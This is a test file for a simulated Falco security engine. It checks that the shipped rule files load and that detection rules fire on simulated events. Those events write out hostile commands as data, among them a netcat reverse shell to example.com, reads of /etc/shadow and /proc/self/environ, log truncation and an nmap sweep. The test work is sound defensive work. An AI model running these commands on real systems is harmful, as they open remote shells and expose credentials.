// The shipped /etc/falco files load cleanly into the engine and produce the chapter's alerts.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { loadFalcoConfig } from '../../src/falco/config/falco-config';
import { createFalcoEngine } from '../../src/falco/engine';
import { formatAlertLine } from '../../src/falco/output/alert-line';
import { ancestor, container, execEvent, openEvent, proc } from './helpers/events';
import { MALICIOUS_WRITE, SHELL_IN_NGINX, SHELL_LINE, WRITE_ETC_LINE } from './helpers/chapter';

const asset = (name: string): string => readFileSync(new URL(`../../assets/falco/${name}`, import.meta.url), 'utf8');
const RULES = asset('falco_rules.yaml');
const LOCAL = asset('falco_rules.local.yaml');

function shippedEngine() {
  const eng = createFalcoEngine();
  const r1 = eng.loadRulesFile('/etc/falco/falco_rules.yaml', RULES);
  const r2 = eng.loadRulesFile('/etc/falco/falco_rules.local.yaml', LOCAL);
  return { eng, results: [r1, r2] };
}

describe('shipped files', () => {
  it('falco_rules.yaml and falco_rules.local.yaml load without errors', () => {
    const { results } = shippedEngine();
    for (const r of results) expect(r.errors.map((e) => e.message)).toEqual([]);
    expect(results[1].asString(false)).toMatch(/^\/etc\/falco\/falco_rules\.local\.yaml: Ok/);
  });

  it('falco.yaml loads', () => {
    expect(loadFalcoConfig('/etc/falco/falco.yaml', asset('falco.yaml')).ok).toBe(true);
  });

  it('has the 0.33.1 rule set: 75 rules, 21 disabled, with upstream priorities and tags', () => {
    const rules = shippedEngine().eng.rules();
    expect(rules).toHaveLength(75);
    expect(rules.filter((r) => !r.enabled)).toHaveLength(21);
    const byName = new Map(rules.map((r) => [r.name, r]));
    expect(byName.get('Terminal shell in container')).toMatchObject({ priority: 5, tags: ['container', 'mitre_execution', 'shell'] });
    expect(byName.get('Write below etc')).toMatchObject({ priority: 3, tags: ['filesystem', 'mitre_persistence'] });
    expect(byName.get('Launch Package Management Process in Container')).toMatchObject({ priority: 3, tags: ['mitre_persistence', 'process'] });
    expect(byName.get('Read sensitive file untrusted')).toMatchObject({ priority: 4, tags: ['filesystem', 'mitre_credential_access', 'mitre_discovery'] });
  });

  it('every rule named in the reference list exists', () => {
    const names = new Set(shippedEngine().eng.rules().map((r) => r.name));
    for (const n of [
      'Disallowed SSH Connection', 'Modify Shell Configuration File', 'Schedule Cron Jobs', 'Update Package Repository', 'Write below binary dir',
      'Write below monitored dir', 'Directory traversal monitored file read', 'Read ssh information', 'Write below root',
      'Read sensitive file trusted after startup', 'Write below rpm database', 'DB program spawned process', 'Modify binary dirs', 'Mkdir binary dirs',
      'Change thread namespace', 'Run shell untrusted', 'Launch Privileged Container', 'Launch Excessively Capable Container', 'Launch Sensitive Mount Container',
      'Launch Disallowed Container', 'System user interactive', 'System procs network activity', 'Non sudo setuid', 'User mgmt binaries', 'Create files below dev',
      'Contact EC2 Instance Metadata Service From Container', 'Contact K8S API Server From Container', 'Unexpected K8s NodePort Connection',
      'Netcat Remote Code Execution in Container', 'Launch Suspicious Network Tool in Container', 'Search Private Keys or Passwords', 'Clear Log Activities',
      'Remove Bulk Data from Disk', 'Delete or rename shell history', 'Delete Bash History', 'Create Symlink Over Sensitive Files',
      'Create Hardlink Over Sensitive Files', 'The docker client is executed in a container', 'Packet socket created in container',
      'Linux Kernel Module Injection Detected', 'Sudo Potential Privilege Escalation', 'Mount Launched in Privileged Container',
      'Launch Ingress Remote File Copy Tools in Container', 'Detect release_agent File Container Escapes', 'Read environment variable from /proc files',
    ]) {
      expect(names.has(n), n).toBe(true);
    }
  });
});

describe('the chapter alerts through the shipped rules', () => {
  it('a terminal shell in nginx', () => {
    const alert = shippedEngine().eng.process(SHELL_IN_NGINX);
    expect(alert && formatAlertLine(alert)).toBe(SHELL_LINE);
  });

  it('pod malicious appending to /etc/threat', () => {
    const alert = shippedEngine().eng.process(MALICIOUS_WRITE);
    expect(alert && formatAlertLine(alert)).toBe(WRITE_ETC_LINE);
  });

  it('after the chapter override in falco_rules.local.yaml', () => {
    const eng = createFalcoEngine();
    eng.loadRulesFile('/etc/falco/falco_rules.yaml', RULES);
    const r = eng.loadRulesFile(
      '/etc/falco/falco_rules.local.yaml',
      '- rule: Write below etc\n  desc: an attempt to write to any file below /etc\n  condition: write_etc_common\n  output: "%evt.time,%user.name,%container.id"\n  priority: ERROR\n  tags: [filesystem, mitre_persistence]\n',
    );
    expect(r.errors).toEqual([]);
    const alert = eng.process(MALICIOUS_WRITE);
    expect(alert && formatAlertLine(alert)).toBe('23:48:18.516903001: Error 23:48:18.516903001,<NA>,e72a6dbb63b8');
  });
});

describe('other default rules fire on the actions learners try', () => {
  const debian = container('0a1b2c3d4e5f', 'docker.io/library/nginx', 'latest', 'web');
  const inContainer = { container: debian, user: { uid: 0, name: 'root', loginuid: -1, loginname: null } };

  it.each([
    ['Read sensitive file untrusted', openEvent('/etc/shadow', 'O_RDONLY', { proc: proc({ name: 'cat', args: ['/etc/shadow'], ancestors: [ancestor('bash')] }) })],
    ['Launch Package Management Process in Container', execEvent({ ...inContainer, proc: proc({ name: 'apt', args: ['update'], ancestors: [ancestor('bash')] }) })],
    ['Write below binary dir', openEvent('/usr/bin/evil', 'O_WRONLY|O_CREAT|O_TRUNC', { proc: proc({ name: 'cp' }) })],
    ['Write below root', openEvent('/root/notes.txt', 'O_WRONLY|O_CREAT|O_TRUNC', { proc: proc({ name: 'vi' }) })],
    ['Clear Log Activities', openEvent('/var/log/syslog', 'O_WRONLY|O_TRUNC', { proc: proc({ name: 'truncate' }) })],
    ['Launch Suspicious Network Tool in Container', execEvent({ ...inContainer, proc: proc({ name: 'nmap', args: ['-sn', '10.0.0.0/24'] }) })],
    ['Netcat Remote Code Execution in Container', execEvent({ ...inContainer, proc: proc({ name: 'nc', args: ['-e', '/bin/sh', 'example.com', '22'] }) })],
    ['Read environment variable from /proc files', openEvent('/proc/self/environ', 'O_RDONLY', { ...inContainer, proc: proc({ name: 'cat' }) })],
  ])('%s', (ruleName, ev) => {
    expect(shippedEngine().eng.process(ev)?.rule).toBe(ruleName);
  });

  it('a shell reading /etc/shadow is not reported; nor is bash without a tty', () => {
    const { eng } = shippedEngine();
    expect(eng.process(openEvent('/etc/shadow', 'O_RDONLY', { proc: proc({ name: 'bash' }) }))).toBeNull();
    expect(eng.process(execEvent({ container: debian, proc: proc({ name: 'bash', tty: 0, ancestors: [ancestor('runc')] }) }))).toBeNull();
  });
});
